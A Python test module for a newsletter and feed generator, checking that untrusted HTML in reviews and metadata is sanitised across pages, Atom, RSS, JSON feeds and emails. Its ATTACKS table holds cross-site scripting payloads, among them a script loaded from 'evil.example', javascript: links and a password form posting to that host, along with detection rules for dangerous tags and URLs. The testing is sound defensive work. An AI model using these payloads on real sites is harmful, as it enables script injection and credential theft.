"""Untrusted HTML: every attack, in a review's body, the issue's introduction and a review's metadata,
is absent from every output; metadata shows as text; harmless markup survives.

Each attack carries the word "pwned" so a style rule or attribute it smuggled in can be found.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path

import lxml.html
import pytest

from digest.config import load_config
from digest.pipeline import prepare

ISSUE = "issue-2025"
REVIEW = f"issues/{ISSUE}/llm-report-2025.md"
ISSUE_FILE = f"issues/{ISSUE}/issue.md"
ATOM = "{http://www.w3.org/2005/Atom}"
CONTENT_ENCODED = "{http://purl.org/rss/1.0/modules/content/}encoded"

ATTACKS = {
    "script": "<script>alert('pwned')</script><SCRIPT SRC=https://evil.example/pwned.js></SCRIPT>",
    "iframe": '<iframe src="https://evil.example/pwned" srcdoc="<b>pwned</b>"></iframe>',
    "object": '<object data="https://evil.example/pwned.swf"><embed src="https://evil.example/pwned.swf">'
    "</object>",
    "event-handler": '<img src="https://example.org/a.png" alt="a" onerror="alert(\'pwned\')">'
    "<b onmouseover=\"alert('pwned')\">hover</b><svg onload=\"alert('pwned')\"></svg><svg onload=alert(1)>",
    "javascript-url": "<a href=\"javascript:alert('pwned')\">a</a> <a href=\"JaVaScRiPt:alert('pwned')\">b</a>"
    " <a href=\"jav&#x09;ascript:alert('pwned')\">c</a> [d](javascript:alert('pwned'))",
    "data-url": '<a href="data:text/html;base64,cHdu">a</a> <img alt="b" src="data:image/svg+xml,pwned">'
    " ![c](data:image/png;base64,cHduZWQ=)",
    "style-breaking-out": "</div></article></main><style>body { display: none; --pwned: 1 }</style>"
    '<p style="position: fixed; --pwned: 1">covered</p>',
    "form": '<form action="https://evil.example/pwned"><input name="password" type="password">'
    "<button>pwned</button><textarea>t</textarea><select><option>o</option></select></form>",
}

# Elements none of our templates write, so any one found came from content.
FORBIDDEN_ELEMENTS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "option",
    "frame", "frameset", "applet", "svg", "math", "base",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "background", "poster", "cite"}
DANGEROUS_URL = re.compile(r"^(javascript|data|vbscript):")
HARMLESS = (
    "<em>kept-em</em> and <abbr title='kept title'>kept-abbr</abbr>\n\n"
    "<table><tr><th>kept-head</th></tr><tr><td>kept-cell</td></tr></table>\n"
)
END = "kept-last-paragraph"


def markup_problems(html: str) -> list[str]:
    """Everything in an HTML document or fragment that could run, load, submit or restyle."""
    if not html.strip():
        return []
    problems = []
    for element in lxml.html.document_fromstring(html).iter():
        if not isinstance(element.tag, str):
            continue  # a comment or processing instruction
        tag = element.tag.lower()
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{tag}>")
        if tag == "style" and "pwned" in (element.text or ""):
            problems.append("a <style> block from the content")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                problems.append(f"<{tag} {name}>")
            if name == "style" and "pwned" in value:
                problems.append(f"<{tag} style> from the content")
            if name in URL_ATTRIBUTES and DANGEROUS_URL.match(re.sub(r"[\x00-\x20]", "", value).lower()):
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


# What the sanitiser removes with its element, so it must not turn up as text either.
HIDDEN_CONTENT = {"script": "alert('pwned')", "style-breaking-out": "--pwned"}


def text_email_problems(text: str, attack_id: str) -> list[str]:
    """Plain text runs nothing; it must only not offer a dangerous link or a script's source as text."""
    problems = re.findall(r"(?:<|: )\s*(?:javascript|data|vbscript):", text, re.IGNORECASE)
    hidden = HIDDEN_CONTENT.get(attack_id)
    return problems + ([hidden] if hidden and hidden in text else [])


def html_fields(outputs: dict[str, bytes]) -> Iterator[tuple[str, str]]:
    """(where, HTML) for every page and every feed field that readers render as HTML."""
    for name, content in outputs.items():
        if name.endswith(".html"):
            yield name, content.decode()
    atom = ET.fromstring(outputs["feed.xml"])
    for entry in atom.iter(f"{ATOM}entry"):
        for field in (entry.find(f"{ATOM}content"), entry.find(f"{ATOM}summary")):
            if field is not None and field.get("type") == "html":
                yield f"feed.xml {field.tag}", field.text or ""
    rss = ET.fromstring(outputs["rss.xml"])
    for item in rss.iter("item"):
        yield "rss.xml content:encoded", item.findtext(CONTENT_ENCODED) or ""
    for item in json.loads(outputs["feed.json"])["items"]:
        yield "feed.json content_html", item["content_html"]


def rss_descriptions(outputs: dict[str, bytes]) -> Iterator[str]:
    for item in ET.fromstring(outputs["rss.xml"]).iter("item"):
        yield item.findtext("description") or ""


def build(project: Path, entries: str) -> dict[str, bytes]:
    config = load_config(project / "digest.toml", {"feeds": {"entries": entries}})
    return prepare(config, ISSUE).outputs


def place_in_content(project: Path, attack: str) -> None:
    """The attack as its own block and inline, in a review body (no description) and the introduction."""
    body = f"## Section\n\n{attack}\n\nBefore {attack} after.\n\n{HARMLESS}\n{END}\n"
    (project / REVIEW).write_text(f"---\ntitle: Attacked body\n---\n{body}", encoding="utf-8")
    issue = (project / ISSUE_FILE).read_text(encoding="utf-8")
    (project / ISSUE_FILE).write_text(f"{issue}\n{attack}\n\nIntro {attack} inline.\n", encoding="utf-8")


def place_in_metadata(project: Path, attack: str) -> str:
    """The attack as a review's title, description, author and tag (and a script as its source URL)."""
    title = f"Title {attack}"
    front = {
        "title": title,
        "description": attack,
        "author": attack,
        "tags": ["safe", attack],
        "source_url": "javascript:alert('pwned')",
    }
    lines = [f"{key}: {json.dumps(value)}" for key, value in front.items()]  # JSON is YAML
    (project / REVIEW).write_text("---\n" + "\n".join(lines) + "\n---\nA plain body.\n", encoding="utf-8")
    return " ".join(title.split())


def outputs_for(project: Path) -> Iterator[tuple[str, dict[str, bytes]]]:
    for entries in ("issues", "reviews"):
        yield entries, build(project, entries)


def review_page(outputs: dict[str, bytes], title_slug_start: str) -> str:
    pages = [n for n in outputs if n.startswith(f"{ISSUE}/{title_slug_start}") and n.endswith("/index.html")]
    assert len(pages) == 1, sorted(outputs)
    return outputs[pages[0]].decode()


@pytest.mark.parametrize("attack_id", ATTACKS)
def test_attacks_in_the_body_and_introduction_reach_no_output(project: Path, attack_id: str) -> None:
    place_in_content(project, ATTACKS[attack_id])
    for entries, outputs in outputs_for(project):
        for where, html in html_fields(outputs):
            assert markup_problems(html) == [], f"{where} (feeds of {entries})"
        for name in ("feed.xml", "rss.xml", f"{ISSUE}/email.html"):
            assert b"<script" not in outputs[name].lower(), name
        assert text_email_problems(outputs[f"{ISSUE}/email.txt"].decode(), attack_id) == []
        for description in rss_descriptions(outputs):
            assert markup_problems(description) == [], f"rss.xml description (feeds of {entries})"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attacks_in_metadata_are_escaped_text(project: Path, attack: str) -> None:
    title = place_in_metadata(project, attack)
    for entries, outputs in outputs_for(project):
        for where, html in html_fields(outputs):
            assert markup_problems(html) == [], f"{where} (feeds of {entries})"
        for name in ("feed.xml", "rss.xml", f"{ISSUE}/email.html"):
            assert b"<script" not in outputs[name].lower(), name
        for description in rss_descriptions(outputs):  # RSS readers render it as HTML
            assert markup_problems(description) == [], f"rss.xml description (feeds of {entries})"
        page = lxml.html.document_fromstring(review_page(outputs, "title-"))
        assert page.findtext(".//h1") == title
        if entries == "reviews":
            item = next(
                i for i in json.loads(outputs["feed.json"])["items"] if i["title"].startswith("Title")
            )
            assert item["title"] == title
            assert item["summary"] == " ".join(attack.split())
            assert item["authors"] == [{"name": " ".join(attack.split())}]
            assert " ".join(attack.split()) in item["tags"]
            atom_titles = [
                e.findtext(f"{ATOM}title") for e in ET.fromstring(outputs["feed.xml"]).iter(f"{ATOM}entry")
            ]
            assert title in atom_titles


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_metadata_shows_verbatim_in_the_email(project: Path, attack: str) -> None:
    title = place_in_metadata(project, attack)
    outputs = build(project, "issues")
    email = lxml.html.document_fromstring(outputs[f"{ISSUE}/email.html"])
    assert title in [h.text_content() for h in email.find_class("card-title")]
    assert f"by {' '.join(attack.split())} ·" in email.text_content()


def test_harmless_markup_survives_everywhere_the_body_goes(project: Path) -> None:
    place_in_content(project, ATTACKS["style-breaking-out"])
    outputs = build(project, "reviews")
    page = lxml.html.document_fromstring(review_page(outputs, "attacked-body"))
    body = page.find_class("body")[0]
    assert body.findtext(".//em") == "kept-em"
    assert body.findtext(".//abbr") == "kept-abbr" and body.find(".//abbr").get("title") == "kept title"
    assert [c.text for c in body.iter("th", "td")] == ["kept-head", "kept-cell"]
    assert END in body.text_content(), "a stray closing tag ended the review's body early"
    assert page.find_class("back")[0] in page.find_class("review")[0].iter()
    feed_item = next(i for i in json.loads(outputs["feed.json"])["items"] if i["title"] == "Attacked body")
    assert (
        "<em>kept-em</em>" in feed_item["content_html"] and "<td>kept-cell</td>" in feed_item["content_html"]
    )


def test_script_contents_never_become_visible_text(project: Path) -> None:
    """What a <script> or <style> held is dropped with it, so it cannot turn up in an excerpt."""
    review = (
        "---\ntitle: Hidden\n---\n<script>\nvar leaked = 1;\n</script>\n\nShown <style>p{}</style> text.\n"
    )
    (project / REVIEW).write_text(review, encoding="utf-8")
    outputs = build(project, "reviews")
    item = next(i for i in json.loads(outputs["feed.json"])["items"] if i["title"] == "Hidden")
    assert item["summary"] == "Shown text."
    assert b"leaked" not in outputs[f"{ISSUE}/email.txt"] and b"p{}" not in outputs[f"{ISSUE}/email.html"]
